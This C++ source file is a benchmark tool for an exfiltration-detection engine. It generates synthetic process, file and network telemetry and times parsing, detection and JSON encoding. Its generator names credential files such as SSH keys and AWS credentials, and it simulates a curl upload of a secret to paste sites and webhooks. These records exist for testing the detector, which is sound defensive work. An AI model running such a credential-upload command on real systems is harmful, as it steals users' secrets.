// bench_replay: the userspace benchmark's tools (see BENCHMARKS.md).
//   bench_replay generate N FILE [SEED]  writes N telemetry records in the replay format, written
//                                        by the real ECS writer, with a realistic mix
//   bench_replay stages FILE             times the replay stages apart in CPU time (parse, detect,
//                                        JSON encoding) and prints one JSON object
#include <fcntl.h>
#include <sys/resource.h>
#include <unistd.h>

#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <random>
#include <string>
#include <vector>

#include <fmt/format.h>

#include "detect/engine.hpp"
#include "detect/rules.hpp"
#include "output/ecs.hpp"
#include "output/sink.hpp"
#include "replay/reader.hpp"

namespace exfilwatch {
extern const std::string_view builtin_rules_yaml;
}

namespace {

using namespace exfilwatch;

constexpr TimeNs start_time = 1795920000ULL * 1'000'000'000ULL;  // 2026-11-29T02:40:00Z
constexpr std::string_view boot_id = "5f0c2a9e-7d41-4b8a-9c3e-2b6f1d0e8a77";

// One simulated process: its identity and the records it still has to produce, in order.
struct Actor {
    ProcessRef ref;
    std::vector<Event> script;
    std::size_t next = 0;
};

class Generator {
public:
    explicit Generator(std::uint64_t seed) : rng_(seed) {}

    // Appends the next record's NDJSON line to `out`.
    void next(std::string& line)
    {
        while (actors_.size() < concurrency) spawn();
        auto i = pick(actors_.size());
        auto& actor = actors_[i];
        now_ += 5'000 + pick(40'000);  // ~22 µs apart: ~45 k records/s of virtual time
        Event& e = actor.script[actor.next++];
        std::visit([&](auto& ev) { ev.time = now_; }, e);
        line = output::to_ndjson_line(e);
        if (actor.next == actor.script.size()) {
            actors_[i] = std::move(actors_.back());
            actors_.pop_back();
        }
    }

private:
    static constexpr std::size_t concurrency = 48;

    std::uint64_t pick(std::uint64_t n) { return std::uniform_int_distribution<std::uint64_t>(0, n - 1)(rng_); }
    bool chance(double p) { return std::bernoulli_distribution(p)(rng_); }
    template <typename T, std::size_t N>
    const T& one_of(const T (&items)[N])
    {
        return items[pick(N)];
    }

    ProcessRef new_process(std::string executable, std::vector<std::string> args, const ProcessRef* parent)
    {
        ProcessRef p;
        p.pid = next_pid_++;
        if (next_pid_ > 4'000'000) next_pid_ = 300;
        p.start_time = now_;
        p.entity_id = fmt::format("{}-{}-{}", boot_id, p.pid, p.start_time);
        p.ppid = parent ? parent->pid : 1;
        p.parent_entity_id =
            parent ? parent->entity_id : fmt::format("{}-1-{}", boot_id, start_time - 3600'000'000'000ULL);
        p.pgid = parent && chance(0.5) ? parent->pgid : p.pid;
        p.sid = parent ? parent->sid : p.pid;
        p.uid = chance(0.7) ? 1000 : 0;
        auto slash = executable.rfind('/');
        p.name = executable.substr(slash + 1);
        p.executable = std::move(executable);
        p.args = std::move(args);
        p.has_tty = parent != nullptr && chance(0.6);
        p.cgroup_id = 4000 + pick(200);
        if (parent) {  // a child stays in its parent's container
            p.container_id = parent->container_id;
            p.pod_uid = parent->pod_uid;
        } else if (chance(0.15)) {
            p.container_id = fmt::format("{:016x}{:016x}{:016x}{:016x}", rng_(), rng_(), rng_(), rng_());
            if (chance(0.5))
                p.pod_uid = fmt::format("6b8d7e3c-{:04x}-4222-8333-{:012x}", pick(65536), pick(1ULL << 48));
        }
        return p;
    }

    std::string home() { return fmt::format("/home/{}", one_of(users_)); }

    void file_opens(Actor& a, int count, bool sensitive)
    {
        static constexpr const char* system_files[] = {
            "/etc/passwd",      "/etc/hosts",      "/etc/nsswitch.conf",
            "/etc/resolv.conf", "/etc/localtime",  "/etc/ssl/certs/ca-certificates.crt",
            "/etc/gitconfig",   "/var/log/syslog", "/etc/os-release"};
        static constexpr const char* project_files[] = {
            "src/main.cpp",         "src/util.hpp", "README.md",   "Makefile",  "package.json",
            "data/report-2026.csv", "notes.txt",    ".git/config", ".git/HEAD", "build/out.o"};
        static constexpr const char* secrets[] = {
            ".ssh/id_ed25519",  ".aws/credentials", ".kube/config",       ".netrc",
            ".git-credentials", ".bash_history",    ".docker/config.json"};
        for (int i = 0; i < count; ++i) {
            FileOpenEvent e;
            e.process = a.ref;
            std::string path;
            const bool write = !(sensitive && i == 0) && chance(0.15);
            if (sensitive && i == 0) path = fmt::format("{}/{}", home(), one_of(secrets));
            else if (write)  // outputs are the writer's own files (objects, downloads, caches)
                path = fmt::format("{}/src/proj{}/build/{}-{}.o", home(), pick(40), a.ref.pid, i);
            else if (!recent_writes_.empty() && chance(0.02))  // staging: a file another process wrote
                path = recent_writes_[pick(recent_writes_.size())];
            else if (chance(0.4))
                path = one_of(system_files);
            else
                path = fmt::format("{}/src/proj{}/{}", home(), pick(40), one_of(project_files));
            e.requested_path = chance(0.5) ? path : path.substr(path.rfind('/') + 1);
            e.path = std::move(path);
            e.inode = 100'000 + pick(5'000'000);
            e.device = 2049;
            e.flags = write ? 0x80241 : 0x80000;  // O_WRONLY|O_CREAT|O_TRUNC|O_CLOEXEC, or O_RDONLY|O_CLOEXEC
            if (write) {
                if (recent_writes_.size() < 64) recent_writes_.push_back(e.path);
                else
                    recent_writes_[pick(64)] = e.path;
            }
            if (chance(0.08)) {
                e.error = 2;  // ENOENT
                e.inode = 0;
                e.device = 0;
            } else {
                e.fd = 3 + static_cast<std::int32_t>(i);
            }
            const bool summarize = !e.error && (e.flags & 3) == 0 && chance(0.5);
            FileSummaryEvent s;
            if (summarize) s = FileSummaryEvent{0, a.ref, e.path, e.inode, e.device, 1 + pick(1u << 20), 0, false};
            a.script.emplace_back(std::move(e));
            if (summarize) deferred_.emplace_back(std::move(s));
        }
    }

    // DNS, connect, TLS or HTTP, periodic and final flow summaries of one connection.
    void connection(Actor& a, std::string domain, bool tls, std::uint64_t bytes_out, std::uint64_t bytes_in)
    {
        const std::uint64_t cookie = next_cookie_++;
        const std::string ip = fmt::format("{}.{}.{}.{}", 20 + pick(180), pick(256), pick(256), 1 + pick(254));
        const std::uint16_t port = tls ? 443 : 80;
        const Endpoint src{"10.0.2.15", static_cast<std::uint16_t>(32768 + pick(28000))};
        if (chance(0.7)) {
            DnsAnswerEvent d;
            d.process = a.ref;
            d.flow = {next_cookie_++};
            d.question = domain;
            if (chance(0.3)) d.cnames.push_back(fmt::format("edge-{}.cdn.example.net", pick(64)));
            d.resolved_ips.push_back(ip);
            if (chance(0.4)) d.resolved_ips.push_back(fmt::format("2606:4700::{:x}", pick(65536)));
            a.script.emplace_back(std::move(d));
        }
        a.script.emplace_back(ConnectEvent{
            0, a.ref, {cookie}, Transport::tcp, false, src, {ip, port}, domain, 200'000 + pick(1'000'000)});
        if (tls) {
            TlsClientHelloEvent t;
            t.process = a.ref;
            t.flow = {cookie};
            t.destination = {ip, port};
            t.server_name = domain;
            t.alpn = {"h2", "http/1.1"};
            t.version = 0x0304;
            a.script.emplace_back(std::move(t));
        } else {
            static constexpr const char* paths[] = {"/", "/index.html", "/api/v1/items", "/upload", "/health"};
            a.script.emplace_back(HttpRequestEvent{
                0, a.ref, {cookie}, {ip, port}, chance(0.8) ? "GET" : "POST", domain, one_of(paths), ""});
        }
        const int periodic = static_cast<int>(pick(3));
        for (int i = 1; i <= periodic; ++i)
            a.script.emplace_back(FlowSummaryEvent{0,
                                                   a.ref,
                                                   {cookie},
                                                   Transport::tcp,
                                                   src,
                                                   {ip, port},
                                                   domain,
                                                   tls ? "sni" : "http",
                                                   bytes_out * i / (periodic + 1),
                                                   bytes_in * i / (periodic + 1),
                                                   false});
        a.script.emplace_back(FlowSummaryEvent{0,
                                               a.ref,
                                               {cookie},
                                               Transport::tcp,
                                               src,
                                               {ip, port},
                                               domain,
                                               tls ? "sni" : "http",
                                               bytes_out,
                                               bytes_in,
                                               true});
    }

    void start(Actor& a, const ProcessRef* parent)
    {
        if (parent && chance(0.5)) {  // fork of the shell, then exec
            ProcessRef child = *parent;
            child.pid = a.ref.pid;
            child.entity_id = a.ref.entity_id;
            child.ppid = parent->pid;
            child.parent_entity_id = parent->entity_id;
            child.start_time = a.ref.start_time;
            a.script.emplace_back(ForkEvent{0, std::move(child)});
        }
        a.script.emplace_back(ExecEvent{0, a.ref});
    }

    void finish(Actor& a)
    {
        for (auto& s : deferred_) a.script.emplace_back(std::move(s));
        deferred_.clear();
        a.script.emplace_back(ExitEvent{0, a.ref, chance(0.9) ? 0 : 1});
    }

    void spawn()
    {
        Actor a;
        const auto kind = pick(1000);
        if (!shell_ || shell_uses_ == 0) {
            shell_ = new_process("/usr/bin/bash", {"-bash"}, nullptr);
            shell_uses_ = 40;
        }
        --shell_uses_;
        const ProcessRef* parent = &*shell_;
        if (kind < 450) {  // local commands: no network
            static constexpr const char* tools[] = {"ls",      "cat", "grep", "find", "make",
                                                    "cc1plus", "sed", "awk",  "cp",   "stat"};
            std::string tool = one_of(tools);
            std::vector<std::string> args{tool};
            const auto n = 1 + pick(5);
            for (std::uint64_t i = 0; i < n; ++i)
                args.push_back(chance(0.4) ? fmt::format("-{}", "lRvnf"[pick(5)])
                                           : fmt::format("{}/src/proj{}/file{}.txt", home(), pick(40), pick(100000)));
            a.ref = new_process("/usr/bin/" + tool, std::move(args), parent);
            start(a, parent);
            file_opens(a, 1 + static_cast<int>(pick(8)), false);
        } else if (kind < 800) {  // network clients
            static constexpr const char* domains[] = {
                "api.github.com",         "github.com",         "pypi.org",
                "files.pythonhosted.org", "registry.npmjs.org", "deb.debian.org",
                "www.google.com",         "example.com",        "objects.githubusercontent.com",
                "api.openai.com"};
            std::string domain = one_of(domains);
            const auto which = pick(4);
            std::vector<std::string> args;
            std::string exe;
            if (which == 0) {
                exe = "/usr/bin/curl";
                args = {"curl", "-sSL", "-H", fmt::format("Authorization: Bearer ghp_{:016x}{:016x}", rng_(), rng_()),
                        fmt::format("https://{}/repos/org{}/repo{}/releases?page={}", domain, pick(100), pick(1000),
                                    pick(9))};
            } else if (which == 1) {
                exe = "/usr/bin/git";
                args = {"git", "fetch", "origin", fmt::format("refs/heads/feature-{}", pick(100000))};
            } else if (which == 2) {
                exe = "/usr/bin/python3.11";
                args = {"python3", "-m", "pip", "install",
                        fmt::format("package{}=={}.{}", pick(5000), pick(9), pick(20))};
            } else {
                exe = "/usr/bin/wget";
                args = {
                    "wget", "-q", "-O", fmt::format("/tmp/dl-{}.tar.gz", pick(100000)),
                    fmt::format("https://{}/dist/v{}.{}/pkg.tar.gz?token={:016x}", domain, pick(9), pick(30), rng_())};
            }
            a.ref = new_process(exe, std::move(args), parent);
            start(a, parent);
            file_opens(a, 1 + static_cast<int>(pick(4)), false);
            const auto conns = 1 + pick(2);
            for (std::uint64_t c = 0; c < conns; ++c)
                connection(a, domain, chance(0.85), 500 + pick(4000), 2'000 + pick(2'000'000));
        } else if (kind < 995) {  // services: many connections of one long-lived process
            static constexpr const char* services[] = {"node", "nginx", "python3", "java"};
            std::string tool = one_of(services);
            a.ref = new_process(
                "/usr/bin/" + tool,
                {tool, fmt::format("/srv/app{}/server.js", pick(50)), "--port", fmt::format("{}", 3000 + pick(100))},
                nullptr);
            start(a, nullptr);
            file_opens(a, 2, false);
            const auto conns = 2 + pick(6);
            for (std::uint64_t c = 0; c < conns; ++c)
                connection(a, fmt::format("backend{}.internal.example", pick(20)), chance(0.5), 300 + pick(3000),
                           300 + pick(30000));
        } else {  // an exfiltration: reads a secret and uploads it to a paste site or webhook
            static constexpr const char* sinks[] = {"pastebin.com", "transfer.sh", "hooks.slack.com", "webhook.site"};
            std::string domain = one_of(sinks);
            a.ref =
                new_process("/usr/bin/curl",
                            {"curl", "-sS", "-T", "-", fmt::format("https://{}/u/{}", domain, pick(1u << 30))}, parent);
            start(a, parent);
            file_opens(a, 1, true);
            connection(a, domain, true, 200'000 + pick(1'000'000), 600 + pick(600));
        }
        finish(a);
        actors_.push_back(std::move(a));
    }

    std::mt19937_64 rng_;
    TimeNs now_ = start_time;
    std::uint32_t next_pid_ = 2000;
    std::uint64_t next_cookie_ = 1'000'000;
    std::vector<Actor> actors_;
    std::vector<FileSummaryEvent> deferred_;  // file summaries come at exit
    std::vector<std::string> recent_writes_;
    std::optional<ProcessRef> shell_;
    int shell_uses_ = 0;
    static constexpr const char* users_[] = {"alice", "bob", "carol", "dave"};
};

int generate(std::uint64_t records, const char* path, std::uint64_t seed)
{
    auto sink = output::NdjsonSink::open_file(path);
    Generator gen(seed);
    std::string line;
    for (std::uint64_t i = 0; i < records; ++i) {
        gen.next(line);
        sink->write_line(line);
    }
    sink->close(std::chrono::seconds(10));
    if (sink->broken() || sink->dropped_lines()) {
        fmt::print(stderr, "bench_replay: writing {} failed: {}\n", path, sink->error());
        return 1;
    }
    return 0;
}

double cpu_seconds()
{
    rusage ru{};
    getrusage(RUSAGE_SELF, &ru);
    return static_cast<double>(ru.ru_utime.tv_sec + ru.ru_stime.tv_sec) +
           static_cast<double>(ru.ru_utime.tv_usec + ru.ru_stime.tv_usec) / 1e6;
}

// Three passes over the same file, each timed in CPU seconds of the process (a wall clock around
// each call would count the time other processes hold the CPU): parse only; parse + detect; parse
// + detect + JSON encoding of every event and alert (what `replay --events all` encodes). Each
// stage is the difference between two passes.
int stages(const char* path)
{
    auto rules = std::get<detect::Rules>(detect::load_rules(builtin_rules_yaml, "built-in rules"));
    double spent[3] = {};
    std::uint64_t events = 0, alerts = 0, bytes = 0;
    for (int pass = 0; pass < 3; ++pass) {
        std::uint64_t errors = 0;
        auto reader = replay::ReplayReader::open(path, [&](std::uint64_t, std::string_view) { ++errors; });
        detect::Engine engine(rules);
        output::EcsEncoder encoder;
        std::uint64_t n = 0, pass_alerts = 0;
        const double begin = cpu_seconds();
        while (const Event* next = reader->next()) {
            const Event& event = *next;
            ++n;
            if (pass == 0) continue;
            auto out = engine.process(event);
            pass_alerts += out.size();
            if (pass == 1) continue;
            bytes += encoder.line(event).size();
            for (const auto& alert : out) bytes += encoder.line(alert).size();
        }
        spent[pass] = cpu_seconds() - begin;
        if (errors) {
            fmt::print(stderr, "bench_replay: {} malformed lines in {}\n", errors, path);
            return 1;
        }
        events = n;
        alerts = pass_alerts;
    }
    fmt::print("{{\"events\":{},\"alerts\":{},\"encoded_bytes\":{},\"parse_s\":{:.3f},\"detect_s\":{:.3f},"
               "\"encode_s\":{:.3f}}}\n",
               events, alerts, bytes, spent[0], std::max(0.0, spent[1] - spent[0]), std::max(0.0, spent[2] - spent[1]));
    return 0;
}

}  // namespace

int main(int argc, char** argv)
{
    try {
        if (argc >= 4 && std::strcmp(argv[1], "generate") == 0)
            return generate(std::stoull(argv[2]), argv[3], argc >= 5 ? std::stoull(argv[4]) : 1);
        if (argc == 3 && std::strcmp(argv[1], "stages") == 0) return stages(argv[2]);
    } catch (const std::exception& e) {
        fmt::print(stderr, "bench_replay: {}\n", e.what());
        return 1;
    }
    fmt::print(stderr, "usage: bench_replay generate N FILE [SEED] | bench_replay stages FILE\n");
    return 2;
}
